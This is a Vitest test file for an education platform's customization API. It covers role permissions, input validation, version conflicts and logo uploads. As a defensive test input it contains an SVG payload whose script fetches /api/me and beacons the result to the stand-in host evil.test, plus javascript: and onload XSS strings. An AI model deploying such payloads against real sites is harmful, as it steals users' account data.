import { afterAll, beforeAll, describe, expect, it } from 'vitest';
import { CUSTOMIZACAO_PADRAO } from '../../../domain/customizacao';
import { ORIGIN, type TestApp, createTestApp } from '../../../test/app';
import { PNG_1X1, multipart, pngDeTamanho } from '../../../test/multipart';

let t: TestApp;
const cookies: Record<string, string> = {};
beforeAll(async () => {
  t = await createTestApp();
  for (const u of ['admin', 'empresa', 'gestor', 'professor', 'aluno']) cookies[u] = await t.login(`${u}@demo.escola.br`);
});
afterAll(() => t.close());

const get = (url: string, user?: string) => t.app.inject({ method: 'GET', url, headers: user ? { cookie: cookies[user] } : {} });
const send = (method: 'PUT' | 'DELETE', user: string | undefined, payload?: object) =>
  t.app.inject({ method, url: '/api/customizacao', headers: { origin: ORIGIN, ...(user ? { cookie: cookies[user] } : {}) }, ...(payload ? { payload } : {}) });
const uploadLogo = (user: string | undefined, nome: string, tipo: string, dados: Buffer) => {
  const body = multipart({ arquivos: [{ campo: 'arquivo', nome, tipo, dados }] });
  return t.app.inject({ method: 'POST', url: '/api/customizacao/logo', headers: { origin: ORIGIN, ...body.headers, ...(user ? { cookie: cookies[user] } : {}) }, payload: body.payload });
};
async function atual() {
  return (await get('/api/customizacao', 'admin')).json() as { customizacao: typeof CUSTOMIZACAO_PADRAO; versoes: Record<string, string | null> };
}

const SVG_COM_SCRIPT = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 150 60" onload="alert('x')">
  <script>fetch('/api/me').then(r => r.text()).then(t => navigator.sendBeacon('https://evil.test', t))</script>
  <rect width="150" height="60" fill="#1e3a8a"/><text x="10" y="40" fill="#fff">Vale Verde</text></svg>`;

describe('customização: quem lê e quem muda', () => {
  it('every signed-in role reads it (the layout needs it); nobody without a session', async () => {
    expect((await get('/api/customizacao')).statusCode).toBe(401);
    for (const u of ['admin', 'empresa', 'gestor', 'professor', 'aluno']) {
      const res = await get('/api/customizacao', u);
      expect(res.statusCode, u).toBe(200);
      expect(res.json().customizacao).toEqual(CUSTOMIZACAO_PADRAO);
    }
  });

  it('only the administrador saves, resets and uploads a logo', async () => {
    const { versoes } = await atual();
    for (const u of ['empresa', 'gestor', 'professor', 'aluno']) {
      expect((await send('PUT', u, { customizacao: CUSTOMIZACAO_PADRAO, versoes })).statusCode, u).toBe(403);
      expect((await send('DELETE', u)).statusCode, u).toBe(403);
      expect((await uploadLogo(u, 'l.png', 'image/png', PNG_1X1)).statusCode, u).toBe(403);
    }
    expect((await send('PUT', undefined, { customizacao: CUSTOMIZACAO_PADRAO, versoes })).statusCode).toBe(401);
    expect((await uploadLogo(undefined, 'l.png', 'image/png', PNG_1X1)).statusCode).toBe(401);
  });
});

describe('customização: salvar, aplicar, restaurar', () => {
  it('refuses a javascript: footer link and an http image with field messages, saving nothing', async () => {
    const { versoes } = await atual();
    const res = await send('PUT', 'admin', {
      customizacao: { ...CUSTOMIZACAO_PADRAO, footer: { ...CUSTOMIZACAO_PADRAO.footer, links: 'Oi | javascript:alert(1)' }, cabecalho: { ...CUSTOMIZACAO_PADRAO.cabecalho, imagemFundo: 'http://x.test/a.png' } },
      versoes,
    });
    expect(res.statusCode).toBe(400);
    expect(Object.keys(res.json().error.fields).sort()).toEqual(['cabecalho.imagemFundo', 'footer.links']);
    expect((await atual()).versoes.footer).toBeNull();
    const shape = await send('PUT', 'admin', { customizacao: { logo: {} }, versoes });
    expect(shape.statusCode).toBe(400);
  });

  it('saves the five cards, blank or invalid numbers becoming the defaults, and applies them', async () => {
    const { versoes } = await atual();
    const res = await send('PUT', 'admin', {
      customizacao: {
        logo: { url: '', largura: '', altura: 'abc', alt: 'Logo da rede' },
        cabecalho: { tituloPrincipal: 'Rede Vale Verde', subtitulo: 'Educação que transforma', corTitulo: '#123', corSubtitulo: 'azul', imagemFundo: '', altura: '96' },
        secoes: { estatisticas: true, atividades: false, avisos: true, calendario: false, graficos: false, links: true },
        sidebar: { largura: 99999, cor: '#1e3a8a', posicao: 'right', colapsavel: false, mostrarLogo: false },
        footer: { texto: '© Vale Verde', links: 'Privacidade | https://valeverde.mg.gov.br/privacidade, mailto:ouvidoria@valeverde.mg.gov.br', corTexto: '#ffffff', corFundo: '#1e3a8a', mostrarLinks: true },
      },
      versoes,
    });
    expect(res.statusCode, res.body).toBe(200);
    const c = res.json().customizacao;
    expect(c.logo).toMatchObject({ largura: 150, altura: 60, alt: 'Logo da rede' });
    expect(c.cabecalho).toMatchObject({ tituloPrincipal: 'Rede Vale Verde', corTitulo: '#112233', corSubtitulo: '#6b7280', altura: 96 });
    expect(c.sidebar).toEqual({ largura: 256, cor: '#1e3a8a', posicao: 'right', colapsavel: false, mostrarLogo: false });
    expect(c.footer.links).toEqual([
      { texto: 'Privacidade', url: 'https://valeverde.mg.gov.br/privacidade' },
      { texto: 'ouvidoria@valeverde.mg.gov.br', url: 'mailto:ouvidoria@valeverde.mg.gov.br' },
    ]);
    expect(Object.values(res.json().versoes).every((v) => typeof v === 'string')).toBe(true);

    // The landing page and the login see the header and footer without a session…
    const publico = (await get('/api/publico/aparencia')).json();
    expect(publico.cabecalho.tituloPrincipal).toBe('Rede Vale Verde');
    expect(publico.footer.texto).toBe('© Vale Verde');
    expect(publico).not.toHaveProperty('secoes');
    // …and the dashboard computes only the sections that are on.
    const dash = (await get('/api/dashboard', 'gestor')).json();
    expect(dash.secoes).toMatchObject({ atividades: false, calendario: false, graficos: false });
    expect(dash).toHaveProperty('estatisticas');
    expect(dash).toHaveProperty('avisos');
    expect(dash).not.toHaveProperty('atividades');
    expect(dash).not.toHaveProperty('calendario');
    expect(dash).not.toHaveProperty('graficos');

    // Saving on the versions loaded before is a conflict: nothing is overwritten.
    const stale = await send('PUT', 'admin', { customizacao: CUSTOMIZACAO_PADRAO, versoes });
    expect(stale.statusCode).toBe(409);
    expect((await atual()).customizacao.cabecalho.tituloPrincipal).toBe('Rede Vale Verde');
  });

  it('uploads a logo: an SVG with a script is neutralised and served sandboxed, without a session', async () => {
    const res = await uploadLogo('admin', 'logo.svg', 'image/svg+xml', Buffer.from(SVG_COM_SCRIPT));
    expect(res.statusCode, res.body).toBe(201);
    const { url } = res.json();
    expect(url).toMatch(/^\/api\/publico\/arquivos\/[0-9a-f-]{36}$/);
    const served = await get(url);
    expect(served.statusCode).toBe(200);
    expect(served.headers['content-type']).toBe('image/svg+xml');
    expect(served.headers['content-security-policy']).toBe("default-src 'none'; style-src 'unsafe-inline'; sandbox");
    expect(served.headers['x-content-type-options']).toBe('nosniff');
    expect(served.body).not.toMatch(/script|onload|evil\.test|sendBeacon/);
    expect(served.body).toContain('<text x="10" y="40" fill="#fff">Vale Verde</text>');

    const { versoes, customizacao } = await atual();
    const saved = await send('PUT', 'admin', { customizacao: { ...customizacao, logo: { ...customizacao.logo, url } }, versoes });
    expect(saved.statusCode, saved.body).toBe(200);
    expect((await get('/api/publico/aparencia')).json().logo.url).toBe(url);
  });

  it('refuses a logo of 2 MB + 1 byte, an HTML page renamed .png and a GIF', async () => {
    const big = await uploadLogo('admin', 'logo.png', 'image/png', pngDeTamanho(2 * 1024 * 1024 + 1));
    expect(big.statusCode).toBe(413);
    expect(big.json().error.message).toBe('O arquivo deve ter no máximo 2 MB.');
    const html = await uploadLogo('admin', 'logo.png', 'image/png', Buffer.from('<html><body onload="alert(1)">oi</body></html>'));
    expect(html.statusCode).toBe(400);
    expect(html.json().error.fields.arquivo).toBe('Formato não aceito. Envie uma imagem PNG, JPG ou SVG.');
    const gif = await uploadLogo('admin', 'logo.gif', 'image/gif', Buffer.from('GIF89a\x01\x00\x01\x00'));
    expect(gif.statusCode).toBe(400);
  });

  it('resets every card to its defaults', async () => {
    const res = await send('DELETE', 'admin');
    expect(res.statusCode).toBe(200);
    expect(res.json().customizacao).toEqual(CUSTOMIZACAO_PADRAO);
    expect(res.json().versoes).toEqual({ logo: null, cabecalho: null, secoes: null, sidebar: null, footer: null });
    const dash = (await get('/api/dashboard', 'gestor')).json();
    expect(Object.keys(dash).sort()).toEqual(['atividades', 'avisos', 'calendario', 'estatisticas', 'graficos', 'secoes']);
  });
});
